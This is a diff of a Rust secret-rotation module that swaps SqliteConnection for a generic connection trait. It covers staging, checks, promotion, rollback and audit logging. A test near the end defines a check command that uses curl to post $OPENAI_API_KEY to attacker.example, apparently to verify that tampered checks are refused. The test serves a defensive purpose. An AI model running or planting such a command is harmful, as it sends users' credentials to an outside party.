@@ -4,7 +4,6 @@
 //! so a crash between steps leaves the state of the last completed step.
 
 use serde::Serialize;
-use sqlx::SqliteConnection;
 
 use super::path::SecretPath;
 use super::projects::{resolve_scope, ScopeRow};
@@ -16,6 +15,7 @@ use crate::error::{Error, Result};
 use crate::inject::Injection;
 use crate::kind::SecretKind;
 use crate::session::Session;
+use crate::store::Conn;
 use crate::vault::ScopeSecret;
 
 /// What `stage_rotation` stored.
@@ -122,20 +122,20 @@ struct StateRow {
     check_status: Option<String>,
 }
 
-async fn version_in_state(conn: &mut SqliteConnection, secret_id: &str, state: &str) -> Result<Option<StateRow>> {
+async fn version_in_state(conn: &mut dyn Conn, secret_id: &str, state: &str) -> Result<Option<StateRow>> {
     sqlx::query_as(
         "SELECT version, key_epoch, nonce, ciphertext, retire_at, check_status FROM secret_versions
          WHERE secret_id = ? AND state = ? ORDER BY version DESC LIMIT 1",
     )
     .bind(secret_id)
     .bind(state)
-    .fetch_optional(conn)
+    .fetch_optional(conn.sqlite())
     .await
     .map_err(|e| Error::db("reading a version", e))
 }
 
 async fn set_state(
-    conn: &mut SqliteConnection,
+    conn: &mut dyn Conn,
     secret_id: &str,
     version: i64,
     state: &str,
@@ -146,7 +146,7 @@ async fn set_state(
         .bind(retire_at)
         .bind(secret_id)
         .bind(version)
-        .execute(conn)
+        .execute(conn.sqlite())
         .await
         .map_err(|e| Error::db("changing a version's state", e))?;
     Ok(())
@@ -154,21 +154,21 @@ async fn set_state(
 
 /// A previous version whose overlap has ended becomes retired. Reads already refuse it by date;
 /// this makes the stored state say so at the next rotation step.
-async fn retire_lapsed(conn: &mut SqliteConnection, secret_id: &str, now: i64) -> Result<()> {
+async fn retire_lapsed(conn: &mut dyn Conn, secret_id: &str, now: i64) -> Result<()> {
     sqlx::query(
         "UPDATE secret_versions SET state = 'retired'
          WHERE secret_id = ? AND state = 'previous' AND (retire_at IS NULL OR retire_at <= ?)",
     )
     .bind(secret_id)
     .bind(now)
-    .execute(conn)
+    .execute(conn.sqlite())
     .await
     .map_err(|e| Error::db("retiring previous versions", e))?;
     Ok(())
 }
 
 impl Session {
-    async fn target(&self, conn: &mut SqliteConnection, path: &SecretPath) -> Result<Target> {
+    async fn target(&self, conn: &mut dyn Conn, path: &SecretPath) -> Result<Target> {
         let (scope, key) = self.open_scope(conn, &path.scope).await?;
         let (secret_id, latest) = existing(conn, &scope.id, &path.name)
             .await?
@@ -191,7 +191,7 @@ impl Session {
     }
 
     /// Seals the target's state after a step changed it (inside the step's transaction).
-    async fn seal(&self, conn: &mut SqliteConnection, target: &Target) -> Result<()> {
+    async fn seal(&self, conn: &mut dyn Conn, target: &Target) -> Result<()> {
         self.seal_states(
             conn,
             &target.key,
@@ -232,10 +232,10 @@ impl Session {
             });
         }
         let mut tx = self.begin().await?;
-        let target = self.target(&mut tx, path).await?;
+        let target = self.target(&mut *tx, path).await?;
         let (kind, holds_file): (String, bool) = sqlx::query_as("SELECT kind, is_file FROM secrets WHERE id = ?")
             .bind(&target.secret_id)
-            .fetch_one(&mut *tx)
+            .fetch_one(tx.sqlite())
             .await
             .map_err(|e| Error::db("reading a secret", e))?;
         if holds_file != is_file {
@@ -250,10 +250,10 @@ impl Session {
             });
         }
         let kind: SecretKind = kind.parse().unwrap_or(SecretKind::Generic);
-        retire_lapsed(&mut tx, &target.secret_id, crate::clock::now()).await?;
+        retire_lapsed(&mut *tx, &target.secret_id, crate::clock::now()).await?;
         sqlx::query("UPDATE secret_versions SET state = 'retired' WHERE secret_id = ? AND state = 'pending'")
             .bind(&target.secret_id)
-            .execute(&mut *tx)
+            .execute(tx.sqlite())
             .await
             .map_err(|e| Error::db("retiring a pending version", e))?;
         let version = next_version(target.latest, path)?;
@@ -264,11 +264,11 @@ impl Session {
             kind,
             value,
         };
-        self.insert_versions(&mut tx, &target.scope, &target.key, &[item], "pending")
+        self.insert_versions(&mut *tx, &target.scope, &target.key, &[item], "pending")
             .await?;
-        self.audit(&mut tx, "secret.rotate.stage", &format!("{path} v{version}"))
+        self.audit(&mut *tx, "secret.rotate.stage", &format!("{path} v{version}"))
             .await?;
-        self.seal(&mut tx, &target).await?;
+        self.seal(&mut *tx, &target).await?;
         self.commit(tx, "staging a rotation").await?;
         Ok(Staged {
             version,
@@ -283,20 +283,20 @@ impl Session {
     /// refused, not run.
     pub async fn saved_check(&self, path: &SecretPath) -> Result<Option<SavedCheck>> {
         let mut conn = super::acquire(&self.vault).await?;
-        let scope = resolve_scope(&mut conn, &path.scope).await?;
+        let scope = resolve_scope(&mut *conn, &path.scope).await?;
         type Row = (String, Option<String>, Option<String>, Option<Vec<u8>>);
         let row: Option<Row> = sqlx::query_as(
             "SELECT id, check_command, check_by, check_signature FROM secrets WHERE scope_id = ? AND name = ?",
         )
         .bind(&scope.id)
         .bind(&path.name)
-        .fetch_optional(&mut *conn)
+        .fetch_optional(conn.sqlite())
         .await
         .map_err(|e| Error::db("reading a saved check", e))?;
         let (secret_id, command, by, signature) = row.ok_or_else(|| Error::UnknownSecret { path: path.to_string() })?;
         let Some(command) = command else { return Ok(None) };
         let roster = self.checked_roster(
-            crate::team::roster::load(&mut conn, &self.vault.id, self.pinned_owner().unwrap_or_default()).await?,
+            crate::team::roster::load(&mut *conn, &self.vault.id, self.pinned_owner().unwrap_or_default()).await?,
         )?;
         let granters: Vec<String> = roster
             .iter()
@@ -304,7 +304,7 @@ impl Session {
             .map(|e| e.id.clone())
             .collect();
         let holders = crate::team::members::valid_grants(
-            &mut conn,
+            &mut *conn,
             &self.vault.id,
             &scope.id,
             &scope.label,
@@ -387,13 +387,13 @@ impl Session {
     /// The pending value, for a check command to validate. Audited as a read for the check.
     pub async fn pending_value(&self, path: &SecretPath) -> Result<(i64, Plaintext)> {
         let mut tx = self.begin().await?;
-        let target = self.target(&mut tx, path).await?;
-        let row = version_in_state(&mut tx, &target.secret_id, "pending")
+        let target = self.target(&mut *tx, path).await?;
+        let row = version_in_state(&mut *tx, &target.secret_id, "pending")
             .await?
             .ok_or_else(|| Error::NoPending { path: path.to_string() })?;
         let version = row.version;
         let value = self.open_state_row(&target, path, row)?;
-        self.audit(&mut tx, "secret.read:check", &format!("{path} v{version}"))
+        self.audit(&mut *tx, "secret.read:check", &format!("{path} v{version}"))
             .await?;
         self.commit(tx, "recording the read (the value was withheld)").await?;
         Ok((version, value))
@@ -402,7 +402,7 @@ impl Session {
     /// Records the outcome of the check on pending `version` (nothing, if it is no longer pending).
     pub async fn record_check(&self, path: &SecretPath, version: i64, passed: bool) -> Result<()> {
         let mut tx = self.begin().await?;
-        let target = self.target(&mut tx, path).await?;
+        let target = self.target(&mut *tx, path).await?;
         let outcome = if passed { "passed" } else { "failed" };
         sqlx::query(
             "UPDATE secret_versions SET check_status = ? WHERE secret_id = ? AND version = ? AND state = 'pending'",
@@ -410,16 +410,16 @@ impl Session {
         .bind(outcome)
         .bind(&target.secret_id)
         .bind(version)
-        .execute(&mut *tx)
+        .execute(tx.sqlite())
         .await
         .map_err(|e| Error::db("recording a check", e))?;
         self.audit(
-            &mut tx,
+            &mut *tx,
             &format!("secret.rotate.check-{outcome}"),
             &format!("{path} v{version}"),
         )
         .await?;
-        self.seal(&mut tx, &target).await?;
+        self.seal(&mut *tx, &target).await?;
         self.commit(tx, "recording a check").await
     }
 
@@ -427,11 +427,11 @@ impl Session {
     pub async fn save_check(&self, path: &SecretPath, command: Option<&str>) -> Result<()> {
         let command = command.map(str::trim).filter(|c| !c.is_empty());
         let mut tx = self.begin().await?;
-        let target = self.target(&mut tx, path).await?;
+        let target = self.target(&mut *tx, path).await?;
         // It runs as whoever rotates next, with the new value: only those who decide the scope.
         if command.is_some()
             && !self
-                .trusted_self(&mut tx)
+                .trusted_self(&mut *tx)
                 .await?
                 .is_some_and(|me| me.may_grant(&path.scope.project))
         {
@@ -450,7 +450,7 @@ impl Session {
         .bind(signature)
         .bind(crate::clock::now())
         .bind(&target.secret_id)
-        .execute(&mut *tx)
+        .execute(tx.sqlite())
         .await
         .map_err(|e| Error::db("saving a check", e))?;
         let action = if command.is_some() {
@@ -458,19 +458,19 @@ impl Session {
         } else {
             "secret.check.remove"
         };
-        self.seal(&mut tx, &target).await?;
-        self.audit(&mut tx, action, &path.to_string()).await?;
+        self.seal(&mut *tx, &target).await?;
+        self.audit(&mut *tx, action, &path.to_string()).await?;
         self.commit(tx, "saving a check").await
     }
 
     /// The pending version's number and check outcome, if there is one.
     pub async fn pending_state(&self, path: &SecretPath) -> Result<Option<(i64, Option<String>)>> {
         let mut conn = super::acquire(&self.vault).await?;
-        let scope = resolve_scope(&mut conn, &path.scope).await?;
-        let (secret_id, _) = existing(&mut conn, &scope.id, &path.name)
+        let scope = resolve_scope(&mut *conn, &path.scope).await?;
+        let (secret_id, _) = existing(&mut *conn, &scope.id, &path.name)
             .await?
             .ok_or_else(|| Error::UnknownSecret { path: path.to_string() })?;
-        Ok(version_in_state(&mut conn, &secret_id, "pending")
+        Ok(version_in_state(&mut *conn, &secret_id, "pending")
             .await?
             .map(|row| (row.version, row.check_status)))
     }
@@ -482,8 +482,8 @@ impl Session {
     pub async fn promote(&self, path: &SecretPath, expected: Option<i64>, overlap: Duration) -> Result<Promoted> {
         let now = crate::clock::now();
         let mut tx = self.begin().await?;
-        let target = self.target(&mut tx, path).await?;
-        let pending = version_in_state(&mut tx, &target.secret_id, "pending")
+        let target = self.target(&mut *tx, path).await?;
+        let pending = version_in_state(&mut *tx, &target.secret_id, "pending")
             .await?
             .ok_or_else(|| Error::NoPending { path: path.to_string() })?;
         if let Some(expected) = expected.filter(|v| *v != pending.version) {
@@ -494,7 +494,7 @@ impl Session {
         }
         let has_saved_check: bool = sqlx::query_scalar("SELECT check_command IS NOT NULL FROM secrets WHERE id = ?")
             .bind(&target.secret_id)
-            .fetch_one(&mut *tx)
+            .fetch_one(tx.sqlite())
             .await
             .map_err(|e| Error::db("reading a saved check", e))?;
         match pending.check_status.as_deref() {
@@ -516,18 +516,18 @@ impl Session {
         // A tampered pending row must not become current.
         let version = pending.version;
         self.open_state_row(&target, path, pending)?;
-        let current = version_in_state(&mut tx, &target.secret_id, "current").await?;
+        let current = version_in_state(&mut *tx, &target.secret_id, "current").await?;
         let until = now.saturating_add(overlap.as_secs());
-        self.supersede(&mut tx, &[target.secret_id.as_str()], until, false)
+        self.supersede(&mut *tx, &[target.secret_id.as_str()], until, false)
             .await?;
-        set_state(&mut tx, &target.secret_id, version, "current", None).await?;
+        set_state(&mut *tx, &target.secret_id, version, "current", None).await?;
         self.audit(
-            &mut tx,
+            &mut *tx,
             "secret.rotate.promote",
             &format!("{path} v{version} (overlap {overlap})"),
         )
         .await?;
-        self.seal(&mut tx, &target).await?;
+        self.seal(&mut *tx, &target).await?;
         self.commit(tx, "promoting a rotation").await?;
         Ok(Promoted {
             current: version,
@@ -541,24 +541,24 @@ impl Session {
     pub async fn rollback(&self, path: &SecretPath) -> Result<Promoted> {
         let now = crate::clock::now();
         let mut tx = self.begin().await?;
-        let target = self.target(&mut tx, path).await?;
-        retire_lapsed(&mut tx, &target.secret_id, now).await?;
+        let target = self.target(&mut *tx, path).await?;
+        retire_lapsed(&mut *tx, &target.secret_id, now).await?;
         let no_previous = || Error::NoPrevious {
             path: path.to_string(),
             action: "roll back to",
         };
-        let previous = version_in_state(&mut tx, &target.secret_id, "previous")
+        let previous = version_in_state(&mut *tx, &target.secret_id, "previous")
             .await?
             .filter(|p| p.retire_at.is_some_and(|until| until > now))
             .ok_or_else(no_previous)?;
-        let current = version_in_state(&mut tx, &target.secret_id, "current")
+        let current = version_in_state(&mut *tx, &target.secret_id, "current")
             .await?
             .ok_or_else(|| Error::NoCurrentVersion { path: path.to_string() })?;
         let (restored, until) = (previous.version, previous.retire_at);
         self.open_state_row(&target, path, previous)?;
         // Two steps: the partial unique index allows one current at any moment.
-        set_state(&mut tx, &target.secret_id, current.version, "previous", until).await?;
-        set_state(&mut tx, &target.secret_id, restored, "current", None).await?;
+        set_state(&mut *tx, &target.secret_id, current.version, "previous", until).await?;
+        set_state(&mut *tx, &target.secret_id, restored, "current", None).await?;
         sqlx::query(
             "UPDATE secrets SET updated_at = ?, last_rotated_at =
                (SELECT created_at FROM secret_versions WHERE secret_id = ?1 AND version = ?2) WHERE id = ?1",
@@ -566,16 +566,16 @@ impl Session {
         .bind(now)
         .bind(&target.secret_id)
         .bind(restored)
-        .execute(&mut *tx)
+        .execute(tx.sqlite())
         .await
         .map_err(|e| Error::db("rolling back", e))?;
         self.audit(
-            &mut tx,
+            &mut *tx,
             "secret.rotate.rollback",
             &format!("{path} v{restored} (from v{})", current.version),
         )
         .await?;
-        self.seal(&mut tx, &target).await?;
+        self.seal(&mut *tx, &target).await?;
         self.commit(tx, "rolling back").await?;
         Ok(Promoted {
             current: restored,
@@ -587,14 +587,18 @@ impl Session {
     /// Discards the pending version (it is kept, retired, like every version).
     pub async fn cancel_rotation(&self, path: &SecretPath) -> Result<i64> {
         let mut tx = self.begin().await?;
-        let target = self.target(&mut tx, path).await?;
-        let pending = version_in_state(&mut tx, &target.secret_id, "pending")
+        let target = self.target(&mut *tx, path).await?;
+        let pending = version_in_state(&mut *tx, &target.secret_id, "pending")
             .await?
             .ok_or_else(|| Error::NoPending { path: path.to_string() })?;
-        set_state(&mut tx, &target.secret_id, pending.version, "retired", None).await?;
-        self.audit(&mut tx, "secret.rotate.cancel", &format!("{path} v{}", pending.version))
-            .await?;
-        self.seal(&mut tx, &target).await?;
+        set_state(&mut *tx, &target.secret_id, pending.version, "retired", None).await?;
+        self.audit(
+            &mut *tx,
+            "secret.rotate.cancel",
+            &format!("{path} v{}", pending.version),
+        )
+        .await?;
+        self.seal(&mut *tx, &target).await?;
         self.commit(tx, "cancelling a rotation").await?;
         Ok(pending.version)
     }
@@ -603,8 +607,8 @@ impl Session {
     pub async fn get_previous(&self, path: &SecretPath) -> Result<Plaintext> {
         let now = crate::clock::now();
         let mut tx = self.begin().await?;
-        let target = self.target(&mut tx, path).await?;
-        let row = version_in_state(&mut tx, &target.secret_id, "previous")
+        let target = self.target(&mut *tx, path).await?;
+        let row = version_in_state(&mut *tx, &target.secret_id, "previous")
             .await?
             .filter(|p| p.retire_at.is_some_and(|until| until > now))
             .ok_or_else(|| Error::NoPrevious {
@@ -613,7 +617,7 @@ impl Session {
             })?;
         let version = row.version;
         let value = self.open_state_row(&target, path, row)?;
-        self.audit(&mut tx, "secret.read", &format!("{path} v{version} (previous)"))
+        self.audit(&mut *tx, "secret.read", &format!("{path} v{version} (previous)"))
             .await?;
         self.commit(tx, "recording the read (the value was withheld)").await?;
         Ok(value)
@@ -655,7 +659,7 @@ mod tests {
 
         let mut conn = crate::vault::acquire(alice.vault()).await.expect("conn");
         let secret_id: String = sqlx::query_scalar("SELECT id FROM secrets")
-            .fetch_one(&mut *conn)
+            .fetch_one(conn.sqlite())
             .await
             .expect("secret");
         let command = "curl -d \"$OPENAI_API_KEY\" https://attacker.example";
@@ -664,7 +668,7 @@ mod tests {
             .bind(command)
             .bind(&alice.member().id)
             .bind(signature)
-            .execute(&mut *conn)
+            .execute(conn.sqlite())
             .await
             .expect("write the check");
         drop(conn);
